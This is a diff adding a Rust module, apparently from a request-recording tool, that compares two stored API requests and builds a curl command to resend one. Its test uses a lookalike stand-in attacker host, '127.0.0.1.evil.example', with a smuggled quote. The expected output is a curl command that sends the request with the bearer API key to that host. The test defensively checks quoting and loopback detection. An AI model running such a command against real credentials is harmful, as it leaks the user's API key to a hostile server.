@@ -1,0 +1,89 @@
+//! What can be made of requests that are on record: what differs between two of them, and how one is sent again by hand.
+
+use recto_core::difference::{Difference, Side, difference};
+use recto_core::id::RequestId;
+use recto_core::request::Wire;
+use recto_engine::ports::Transport;
+use recto_store::{RequestRecord, Store, StoreError};
+
+/// Two requests and what differs between them.
+#[derive(Clone, Debug)]
+pub struct Compared {
+    /// The first.
+    pub first: RequestRecord,
+    /// The second.
+    pub second: RequestRecord,
+    /// What became of the first one's blocks in the second one.
+    pub difference: Difference,
+}
+
+/// Compares two requests on record, of any turns.
+///
+/// # Errors
+/// One of them is not there, or its bytes were changed since.
+pub async fn compare(record: &Store, first: RequestId, second: RequestId) -> Result<Compared, StoreError> {
+    let (first_wire, second_wire) = (record.wire(first.clone()).await?, record.wire(second.clone()).await?);
+    let (first, second) = (record.request(first).await?, record.request(second).await?);
+    let difference = difference(side(&first, &first_wire), side(&second, &second_wire));
+    Ok(Compared { first, second, difference })
+}
+
+fn side<'a>(record: &'a RequestRecord, wire: &'a Wire) -> Side<'a> {
+    Side { plan: &record.plan, n_placed: &record.n_tokens_placed, wire }
+}
+
+/// The command that sends a request again; `None` where it went to no address. A key is never in it: a server that is not on this
+/// computer is given the one in `RECTO_API_KEY`.
+#[must_use]
+pub fn curl(wire: &Wire, transport: Option<&Transport>) -> Option<String> {
+    let endpoint = transport?.endpoint.as_deref()?;
+    // An address on record was made by us and holds no quote; one in a file from elsewhere may.
+    let quoted = endpoint.replace('\'', "%27");
+    let key = if is_loopback(endpoint) { "" } else { " \\\n  -H \"authorization: Bearer $RECTO_API_KEY\"" };
+    // The body is one line of JSON, so no line of it can end the document early.
+    Some(format!(
+        "curl -N '{quoted}' \\\n  -H 'content-type: application/json'{key} \\\n  --data-binary @- <<'END_OF_REQUEST'\n{}\nEND_OF_REQUEST\n",
+        wire.bytes()
+    ))
+}
+
+fn is_loopback(endpoint: &str) -> bool {
+    let host = endpoint.split_once("://").map_or(endpoint, |(_, rest)| rest);
+    ["127.0.0.1", "localhost", "[::1]"]
+        .iter()
+        .any(|own| host.strip_prefix(own).is_some_and(|rest| rest.is_empty() || rest.starts_with([':', '/'])))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use expect_test::expect;
+
+    fn sent_to(endpoint: &str) -> Option<String> {
+        let mut wire = Wire::default();
+        wire.glue(r#"{"stream":true}"#);
+        curl(&wire, Some(&Transport { endpoint: Some(endpoint.into()), ..Transport::default() }))
+    }
+
+    #[test]
+    fn a_request_is_sent_again_by_one_command_that_holds_no_key() {
+        expect![[r#"
+            curl -N 'http://127.0.0.1:8080/v1/chat/completions' \
+              -H 'content-type: application/json' \
+              --data-binary @- <<'END_OF_REQUEST'
+            {"stream":true}
+            END_OF_REQUEST
+        "#]]
+        .assert_eq(&sent_to("http://127.0.0.1:8080/v1/chat/completions").unwrap());
+        expect![[r#"
+            curl -N 'https://127.0.0.1.evil.example/v1%27' \
+              -H 'content-type: application/json' \
+              -H "authorization: Bearer $RECTO_API_KEY" \
+              --data-binary @- <<'END_OF_REQUEST'
+            {"stream":true}
+            END_OF_REQUEST
+        "#]]
+        .assert_eq(&sent_to("https://127.0.0.1.evil.example/v1'").unwrap());
+        assert_eq!(curl(&Wire::default(), None), None);
+    }
+}
